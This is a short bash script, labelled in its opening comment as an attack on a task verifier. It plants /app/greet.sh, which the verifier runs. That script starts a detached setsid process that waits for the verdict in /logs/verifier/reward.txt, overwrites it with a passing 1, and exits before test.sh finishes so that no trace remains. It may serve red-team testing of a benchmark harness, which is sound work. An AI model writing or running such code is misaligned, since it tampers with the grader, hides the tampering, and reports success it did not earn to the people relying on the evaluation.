#!/bin/bash
# Attack: greet.sh, which the verifier runs with its own uid, leaves a detached helper that
# waits for test.sh's verdict, overwrites it with 1 and exits before test.sh does, so
# nothing is left running when test.sh exits.
cat > /app/greet.sh <<'GREET'
#!/bin/bash
setsid sh -c 'until [ -s /logs/verifier/reward.txt ]; do sleep 0.01; done
  echo 1 > /logs/verifier/reward.txt' </dev/null >/dev/null 2>&1 &
echo goodbye
GREET
chmod +x /app/greet.sh
echo "rewriter written"
